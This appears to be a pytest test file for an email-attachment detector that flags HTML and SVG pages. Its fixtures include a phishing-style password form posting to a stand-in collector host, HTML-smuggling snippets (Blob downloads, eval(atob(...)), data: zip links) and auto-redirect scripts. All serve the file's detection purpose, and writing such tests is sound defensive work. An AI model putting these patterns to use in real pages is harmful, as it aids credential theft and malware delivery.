"""What an attached page does is seen: where it leads, what it asks for, what it hides and what it builds."""

from __future__ import annotations

import time

import pytest

from detection.mail.attachment_features import features_of
from detection.mail.batch import AttachmentFlag
from detection.mail.limits import DEFAULT_LIMITS
from detection.mail.message import Defect, Message
from detection.mail.parse import read_message

PAGE = (
    '<html><body><form action="https://collect.example/in"><input name=p TYPE = "Password"></form>'
    '<p style="display:none">unseen words</p><a href="https://elsewhere.example/x">Open</a></body></html>'
)


def mail(page: str, name: str = "Remittance.html", kind: str = "text/html", disposition: str = "attachment") -> Message:
    content = (
        "From: a@example.com\r\nTo: b@acme.example\r\nDate: Fri, 8 Sep 2023 05:47:04 +0000\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhello\r\n"
        f'--b\r\nContent-Type: {kind}; name="{name}"\r\nContent-Disposition: {disposition}\r\n\r\n{page}\r\n--b--\r\n'
    )
    message = read_message(content.encode(), DEFAULT_LIMITS)
    assert isinstance(message, Message)
    return message


@pytest.mark.parametrize(
    ("name", "kind", "disposition"),
    [
        ("Remittance.html", "text/html", "attachment"),
        ("Remittance.html", "text/html", "inline"),
        ("Remittance.HTM", "application/octet-stream", "attachment"),
        ("Remittance.shtml", "application/octet-stream", "attachment"),
        ("Remittance.bin", "application/octet-stream", "attachment"),
    ],
)
def test_an_attached_page_gives_links_forms_and_hidden_text_but_no_text(name: str, kind: str, disposition: str) -> None:
    message = mail(PAGE, name, kind, disposition)
    assert {link.host for link in message.links} == {"collect.example", "elsewhere.example"}
    assert message.form_count == 1
    assert message.hidden_text_length == len("unseen words")
    assert message.text == "hello"
    (attachment,) = message.attachments
    flags = features_of(attachment).flags
    assert flags & AttachmentFlag.PASSWORD_FORM
    assert not flags & AttachmentFlag.UNPACKS


@pytest.mark.parametrize(
    "page",
    [
        '<script>document.write(unescape("%3Ch1%3E"))</script>',
        '<script>var b = new Blob([x]); a.href = URL.createObjectURL(b); a.download = "x.zip"</script>',
        '<script>eval(atob("YWxlcnQoMSk="))</script>',
        '<a download="x.zip" href="data:application/zip;base64,UEsDBA==">Open</a>',
        '<svg xmlns="http://www.w3.org/2000/svg"><script>location = URL.createObjectURL(new Blob([x]))</script></svg>',
    ],
)
def test_a_page_that_builds_something_out_of_itself_is_seen(page: str) -> None:
    (attachment,) = mail(page, "x.html").attachments
    assert features_of(attachment).flags & AttachmentFlag.UNPACKS


@pytest.mark.parametrize(
    "page",
    [
        "<html><p>A report</p><img src='data:image/png;base64,iVBORw0KGgo='></html>",
        "<html><script>console.log(decodeURIComponent('x'))</script></html>",
    ],
)
def test_an_ordinary_page_builds_nothing(page: str) -> None:
    (attachment,) = mail(page).attachments
    assert not features_of(attachment).flags & (AttachmentFlag.UNPACKS | AttachmentFlag.PASSWORD_FORM)


@pytest.mark.parametrize(
    "page",
    [
        "<html><script>window.location.href = 'https://next.example/a'</script></html>",
        "<html><script>location.replace('https://next.example/a')</script></html>",
        '<html><meta http-equiv="refresh" content="0; url=https://next.example/a"></html>',
        '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="https://next.example/a"><text>Open</text></a></svg>',
    ],
)
def test_where_a_page_sends_its_reader_is_a_link(page: str) -> None:
    assert [link.host for link in mail(page, "x.svg", "image/svg+xml").links] == ["next.example"]


def test_what_only_calls_itself_a_page_is_not_read_as_one() -> None:
    message = mail("%PDF-1.4\n" + PAGE)
    assert (message.links, message.form_count) == ((), 0)


@pytest.mark.parametrize(
    "piece",
    [
        "type=",
        "type= ",
        "location=",
        "location = '",
        'href="data:',
        "<a href=x>",
        "<form>",
        "open(" + " " * 5,
        "data:a,",
    ],
)
def test_a_hostile_page_costs_little(piece: str) -> None:
    begun = time.process_time()
    message = mail("<html>" + piece * (2_000_000 // len(piece)))
    assert time.process_time() - begun < 1
    assert message.defects & Defect.CAPPED_HTML
